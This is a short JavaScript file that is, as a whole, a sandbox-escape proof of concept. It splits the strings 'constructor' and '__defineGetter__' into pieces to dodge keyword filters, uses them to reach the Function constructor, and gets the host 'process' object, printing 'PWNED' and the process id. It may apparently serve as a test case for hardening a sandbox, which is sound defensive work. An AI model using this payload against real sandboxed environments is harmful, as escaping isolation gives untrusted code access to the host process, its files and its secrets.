'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const o = {};
o[['__define', 'Getter__'].join('')]('it', () => fn[w]);
console.log('PWNED', o.it('return process')().pid);
